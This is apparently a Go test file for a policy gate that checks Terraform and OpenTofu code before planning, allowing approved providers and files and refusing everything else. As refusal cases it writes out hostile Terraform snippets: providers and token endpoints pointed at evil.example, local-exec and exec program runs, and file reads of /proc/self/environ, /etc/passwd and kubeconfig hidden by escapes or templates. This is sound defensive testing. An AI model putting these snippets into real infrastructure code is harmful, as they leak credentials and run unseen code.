package code

import (
	"maps"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"slipway/step"
	"slipway/step/result/infra"
)

var generous = infra.Allowed{
	Providers: map[string][]string{
		"registry.terraform.io/hashicorp/azurerm":   {"features"},
		"registry.terraform.io/gavinbunney/kubectl": {},
	},
	Data: []string{"azurerm_client_config"}, Provisioners: []string{"file"},
}

const sources = `terraform {
  required_version = ">= 1.9"
  required_providers {
    azurerm = { source = "registry.terraform.io/hashicorp/azurerm", version = "5.2.0" }
    k       = { source = "gavinbunney/kubectl", configuration_aliases = [k.other] }
  }
}
`

// What the gate lets pass are the controls of what it refuses.
func TestCodeMayUseWhatIsAllowedAndNothingElse(t *testing.T) {
	const (
		mayNot   = "which is not allowed"
		outside  = "outside of the code, or that nobody can tell"
		anyFile  = "may read any file of the run"
		provider = "takes the provider "
	)
	for name, c := range map[string]struct{ files, refusals map[string]string }{
		"providers": {map[string]string{
			"by its full address":    sources,
			"as JSON":                `{"terraform": {"required_providers": {"azurerm": {"source": "hashicorp/azurerm"}}}}`,
			"by a version alone":     "terraform {\n  required_providers {\n    " + `azurerm = "~> 5.0"` + "\n  }\n}\n",
			"its own":                "terraform {\n  required_providers {\n    " + `terraform = { source = "terraform.io/builtin/terraform" }` + "\n  }\n}\n",
			"with what it may set":   sources + "provider \"azurerm\" {\n  alias = \"x\"\n  features {\n    key_vault {}\n  }\n}\nprovider \"k\" {}\n",
			"set as JSON":            `{"provider": {"azurerm": [{"features": {}}, {"//": "x", "alias": "b", "features": {}}]}}`,
			"for each, as OpenTofu":  sources + "provider \"azurerm\" {\n  alias    = \"x\"\n  for_each = var.regions\n  features {}\n}\n",
			"named before its block": "provider \"k\" {}\n" + sources,
		}, map[string]string{
			"another":                   "terraform {\n  required_providers {\n    " + `x = { source = "evil/x" }` + "\n  }\n}\n" + "\x00" + provider + `"registry.terraform.io/evil/x", ` + mayNot,
			"of another host":           "terraform {\n  required_providers {\n    " + `x = { source = "evil.example/hashicorp/azurerm" }` + "\n  }\n}\n" + "\x00" + provider + `"evil.example/hashicorp/azurerm"`,
			"external":                  "terraform {\n  required_providers {\n    " + `x = { source = "hashicorp/external" }` + "\n  }\n}\n" + "\x00" + provider + `"registry.terraform.io/hashicorp/external"`,
			"a second source":           "terraform {\n  required_providers {\n    " + `x = { source = "hashicorp/azurerm", source = "evil/x" }` + "\n  }\n}\n" + "\x00" + provider + `"registry.terraform.io/evil/x"`,
			"as Terraform's own":        "terraform {\n  required_providers {\n    " + `terraform = { source = "evil/terraform" }` + "\n  }\n}\n" + "\x00" + provider + `"registry.terraform.io/evil/terraform"`,
			"that nobody can tell":      "terraform {\n  required_providers {\n    " + `x = { source = var.x }` + "\n  }\n}\n" + "\x00from where nobody can tell",
			"configured, but not named": `provider "external" {}` + "\x00" + provider + `"registry.terraform.io/hashicorp/external"`,
			"of the old form":           "terraform {\n  required_providers {\n    " + `http = "~> 3.0"` + "\n  }\n}\n" + "\x00" + provider + `"registry.terraform.io/hashicorp/http"`,
			"where its tokens go":       sources + "provider \"azurerm\" {\n  metadata_host = \"evil.example\"\n  features {}\n}\n\x00sets \"metadata_host\" of provider registry.terraform.io/hashicorp/azurerm, " + mayNot,
			"a program":                 sources + "provider \"k\" {\n  exec {\n    command = \"/bin/terraform\"\n  }\n}\n\x00sets \"exec\" of provider registry.terraform.io/gavinbunney/kubectl",
			"a program, dynamically":    sources + "provider \"k\" {\n  dynamic \"exec\" {\n    for_each = [1]\n    content {}\n  }\n}\n\x00sets \"dynamic\"",
			"another kubeconfig":        sources + "provider \"k\" {\n  config_path = \"${path.module}/evil.yaml\"\n}\n\x00sets \"config_path\"",
			"in the second of two":      `{"provider": {"azurerm": [{"features": {}}, {"oidc_request_url": "https://evil.example", "features": {}}]}}` + "\x00sets \"oidc_request_url\"",
			"that another file renames": "provider \"azurerm\" {\n  features {}\n}\nterraform {\n  required_providers {\n    azurerm = { source = \"gavinbunney/kubectl\" }\n  }\n}\n\x00sets \"features\" of provider registry.terraform.io/gavinbunney/kubectl",
		}},
		"what is read": {map[string]string{
			"a data source":       `data "azurerm_client_config" "x" {}`,
			"one that is checked": "check \"x\" {\n" + `data "azurerm_client_config" "x" {}` + "\n}\n",
			"an ephemeral one":    `ephemeral "azurerm_client_config" "x" {}`,
			"an import":           "import {\n  to = terraform_data.x\n  id = \"x\"\n}\n",
		}, map[string]string{
			"another state":             `data "terraform_remote_state" "x" { backend = "http" }` + "\x00reads another state by the data source terraform_remote_state",
			"another state, as JSON":    `{"data": {"terraform_remote_state": {"x": {"backend": "http"}}}}` + "\x00reads another state",
			"another state, checked":    "check \"x\" {\n" + `data "terraform_remote_state" "x" {}` + "\n}\n" + "\x00reads another state",
			"a URL":                     `data "http" "x" { url = "https://evil.example/" }` + "\x00reads the data source \"http\", " + mayNot,
			"the second":                "data \"azurerm_client_config\" \"x\" {}\ndata \"external\" \"y\" {}\n\x00reads the data source \"external\"",
			"the second that's checked": "check \"x\" {\n  data \"azurerm_client_config\" \"x\" {}\n}\ncheck \"y\" {\n  data \"external\" \"y\" {}\n}\n\x00reads the data source \"external\"",
			"checked, as JSON":          `{"check": {"x": {"data": {"external": {"y": {}}}}}}` + "\x00reads the data source \"external\"",
			"an ephemeral one":          `ephemeral "random_password" "x" {}` + "\x00reads the ephemeral resource \"random_password\"",
			"as an action":              `action "x" "y" {}` + "\x00is not understood: Unsupported block type",
			"by a block of later":       `query "x" {}` + "\x00is not understood: Unsupported block type",
			"by an argument of later":   `query = "x"` + "\x00is not understood: Unsupported argument",
		}},
		"provisioners": {map[string]string{
			"that are allowed": "resource \"terraform_data\" \"x\" {\n  provisioner \"file\" {}\n}\n",
		}, map[string]string{
			"of a resource":     "resource \"terraform_data\" \"x\" {\n  provisioner \"file\" {}\n  provisioner \"local-exec\" {\n    command = \"env\"\n  }\n}\n\x00has the provisioner \"local-exec\", " + mayNot,
			"as JSON":           `{"resource": {"terraform_data": {"x": {"provisioner": [{"local-exec": {"command": "env"}}]}}}}` + "\x00has the provisioner \"local-exec\"",
			"of what's removed": "removed {\n  from = terraform_data.x\n  provisioner \"local-exec\" {\n    when = destroy\n  }\n}\n\x00has the provisioner \"local-exec\"",
		}},
		"the terraform block": {nil, map[string]string{
			"an encryption's program": "terraform {\n  encryption {\n    key_provider \"external\" \"x\" {\n      command = [\"/x\"]\n    }\n  }\n}\n\x00has \"encryption\" in its terraform block",
			"data for a provider":     "terraform {\n  provider_meta \"azurerm\" {\n    x = 1\n  }\n}\n\x00has \"provider_meta\"",
			"as JSON":                 `{"terraform": {"encryption": {}}}` + "\x00has \"encryption\"",
			"a module's backend":      "module \"m\" {\n  source = \"./m\"\n}\n\x00declares the backend \"s3\"",
		}},
		"files": {map[string]string{
			"of the module":      "locals { x = file(\"${path.module}/x.txt\") }",
			"of the root":        "locals { x = filesha256(\"${path.root}/a/../x.txt\") }",
			"of the run's":       "locals { x = file(\"${path.cwd}/x.txt\") }",
			"by their name":      "locals { x = core::file(\"x.txt\") }",
			"that are listed":    "locals { x = [for f in fileset(path.module, \"*.txt\") : file(\"${path.module}/${basename(f)}\")] }",
			"as templates":       "locals { x = templatefile(\"good.tpl\", {}) }",
			"as JSON":            `{"locals": {"x": "${file(\"${path.module}/x.txt\")}"}}`,
			"of other names":     "locals { x = [provider::azurerm::file_x(\"/etc\"), abspath(\"/etc\"), \"file(/etc/passwd)\"] }",
			"beside such a loop": "locals {\n  x = [for path in [\"/a\"] : path]\n  y = file(\"${path.module}/x.txt\")\n}\n",
		}, map[string]string{
			"of the process":          "locals { x = file(\"/proc/self/environ\") }\x00calls file for a file that is " + outside,
			"above the code":          "locals { x = file(\"${path.module}/../../kubeconfig\") }\x00calls file for",
			"above, from its root":    "locals { x = file(\"../../kubeconfig\") }\x00" + outside,
			"of the home":             "locals { x = file(\"~/x\") }\x00" + outside,
			"by an escape":            `locals { x = file("\u002e\u002e/../kubeconfig") }` + "\x00" + outside,
			"by a variable":           "locals { x = file(var.x) }\x00" + outside,
			"by a part":               "locals { x = file(\"${path.module}/${var.x}\") }\x00" + outside,
			"beside the module":       "locals { x = file(\"${path.module}${basename(var.x)}\") }\x00" + outside,
			"beyond a basename":       "locals { x = file(\"${path.module}/${basename(var.x)}/../../kubeconfig\") }\x00" + outside,
			"by another path":         "locals { x = [for path in [{ module = \"/proc/self\" }] : file(\"${path.module}/environ\")] }\x00" + anyFile,
			"by another path's key":   "locals { x = { for path, x in {} : x => file(\"${path.module}/environ\") } }\x00" + anyFile,
			"in a template's loop":    "locals { x = \"%{ for path in var.x }${file(\"${path.module}/environ\")}%{ endfor }\" }\x00" + anyFile,
			"by a list":               "locals { x = file([\"/proc/self/environ\"]...) }\x00" + anyFile,
			"by its namespace":        "locals { x = core::filebase64(\"/proc/self/environ\") }\x00calls filebase64",
			"that are listed":         "locals { x = fileset(path.module, \"{..,x}/*\") }\x00calls fileset for",
			"that are listed wholly":  "locals { x = fileset(\"/\", \"**\") }\x00calls fileset for",
			"by a template":           "locals { x = templatefile(\"evil.tpl\", { path = { module = \"/proc/self\" } }) }\x00calls file, which " + anyFile,
			"by a template of text":   "locals { x = templatestring(local.t, {}) }\x00calls templatestring, which " + anyFile,
			"by a template to choose": "locals { x = templatefile(\"${path.module}/${basename(var.x)}\", {}) }\x00calls templatefile for",
			"by one that isn't there": "locals { x = templatefile(\"none.tpl\", {}) }\x00which can't be read",
			"in a name":               "locals { x = { (file(\"/etc/passwd\")) = 1 } }\x00" + outside,
			"in a heredoc":            "locals {\n  x = <<-E\n    ${file(\"/etc/passwd\")}\n  E\n}\n\x00" + outside,
			"in a nested block":       "resource \"terraform_data\" \"x\" {\n  lifecycle {\n    precondition {\n      condition = file(\"/etc/passwd\") == \"\"\n    }\n  }\n}\n\x00" + outside,
			"as JSON":                 `{"locals": {"x": "${file(\"/etc/passwd\")}"}}` + "\x00" + outside,
			"in a name of JSON":       `{"locals": {"x": {"${file(\"/etc/passwd\")}": 1}}}` + "\x00" + outside,
			"in the first of two":     `{"locals": {"x": "${file(\"/etc/passwd\")}", "x": "y"}}` + "\x00" + outside,
			"in no template":          `{"locals": {"x": "${file("}}` + "\x00holds a template that can't be read",
			"in no Terraform":         "locals {{\n\x00can't be read",
			"in no JSON":              "{\"locals\": \x00can't be read",
		}},
	} {
		check := func(t *testing.T, text string, allowed infra.Allowed) error {
			t.Helper()
			file := "main.tf"
			if text[0] == '{' {
				file = "main.tf.json"
			}
			dir := tree(t, map[string]string{
				"r/" + file: text, "r/x.txt": "x", "r/good.tpl": "a ${b}", "r/evil.tpl": "${file(\"${path.module}/environ\")}",
				"r/m/main.tf": "terraform {\n  backend \"s3\" {}\n}\n",
			})
			return Check("plan", dir, "r", allowed)
		}
		for what, text := range c.files {
			t.Run(name+" "+what, func(t *testing.T) { require.NoError(t, check(t, text, generous)) })
		}
		for what, text := range c.refusals {
			t.Run(name+" "+what+" are refused", func(t *testing.T) {
				text, reason, _ := strings.Cut(text, "\x00")
				f, ok := step.AsFault(check(t, text, generous))
				require.True(t, ok, "it passes")
				assert.Contains(t, f.Reason, reason)
				assert.Regexp(t, `\Acode r/`, f.Input)
				assert.NotEmpty(t, f.Mend)
				assert.NotEqual(t, step.KindInfrastructure, f.Kind)
			})
		}
	}
}

func TestWhatIsAllowedIsWholly(t *testing.T) {
	dir := tree(t, map[string]string{"main.tf": "data \"azurerm_client_config\" \"x\" {}\n"})
	require.NoError(t, Check("plan", dir, ".", generous))
	err := Check("plan", dir, ".", infra.Allowed{})
	assert.EqualError(t, err, `plan: refused by policy: code main.tf:1: reads the data source "azurerm_client_config", which is not allowed: it runs while planning, with the credentials of state and providers
  mend: do without it, or have the platform's owner allow it: infra.allow of slipway.yaml`)

	own := maps.Clone(generous.Providers)
	own["registry.opentofu.org/hashicorp/azurerm"] = []string{}
	text := sources + "provider \"azurerm\" {\n  features {}\n}\n"
	dir = tree(t, map[string]string{"main.tf": text})
	require.NoError(t, Check("plan", dir, ".", infra.Allowed{Providers: own}), "it says which registry it means")
	dir = tree(t, map[string]string{"main.tf": "provider \"azurerm\" {\n  features {}\n}\n"})
	err = Check("plan", dir, ".", infra.Allowed{Providers: own})
	assert.ErrorContains(t, err, "sets \"features\" of provider registry.opentofu.org/hashicorp/azurerm", "either may be meant")
}

func TestALockFileHoldsNoProviderThatIsNotAllowed(t *testing.T) {
	const good = "provider \"registry.terraform.io/hashicorp/azurerm\" {\n  version = \"5.2.0\"\n}\n"
	check := func(lock string) error {
		dir := tree(t, map[string]string{"main.tf": "resource \"azurerm_resource_group\" \"x\" {}\n", ".terraform.lock.hcl": lock})
		return Check("plan", dir, ".", generous)
	}
	require.NoError(t, check(good))
	assert.ErrorContains(t, check(good+"provider \"registry.terraform.io/hashicorp/external\" {\n}\n"),
		`code .terraform.lock.hcl:4: takes the provider "registry.terraform.io/hashicorp/external", which is not allowed`)
	assert.ErrorContains(t, check("provider \"registry.opentofu.org/hashicorp/azurerm\" {\n}\n"), "registry.opentofu.org/hashicorp/azurerm")
}

func TestAFileOfOpenTofuAloneIsRefused(t *testing.T) {
	for _, name := range []string{"main.tofu", "more.tofu.json", "modules/m/main.tofu"} {
		_, err := Copy("plan", tree(t, map[string]string{"main.tf": "", name: ""}), ".", filepath.Join(t.TempDir(), "copy"))
		assert.ErrorContains(t, err, "plan: bad input: code "+name+": is read by OpenTofu alone, in the place of a .tf file of its name")
	}
}

// A lock file's hashes are the author's, too: they prove nothing of a provider that the
// author brings along.
func TestProvidersInTheCodeAreRefused(t *testing.T) {
	const provider = "plugins/registry.terraform.io/hashicorp/azurerm/terraform-provider-azurerm_5.2.0_linux_amd64.zip"
	_, err := Copy("plan", tree(t, map[string]string{"main.tf": "", "terraform.d/" + provider: ""}), ".", filepath.Join(t.TempDir(), "copy"))
	assert.EqualError(t, err, `plan: refused by policy: code terraform.d: is where Terraform looks for providers before it asks their registry: they would run unseen
  mend: take it out; a mirror of providers is an argument`)
	_, err = Copy("plan", tree(t, map[string]string{"main.tf": "", "docs/" + provider: ""}), ".", filepath.Join(t.TempDir(), "copy"))
	require.NoError(t, err)
}

// The platform's own code needs nothing else than what is allowed by default.
func TestTheRootsOfThisRepositoryAreAllowed(t *testing.T) {
	dir := filepath.Join("..", "..", "..", "..", "infra")
	for _, root := range []string{"builtin", "local", "azure", "azure-bootstrap"} {
		require.NoError(t, Check("plan", dir, root, infra.DefaultAllowed), root)
	}
	assert.ErrorContains(t, Check("plan", dir, "azure", infra.Allowed{}), "registry.terraform.io/hashicorp/azurerm")
}
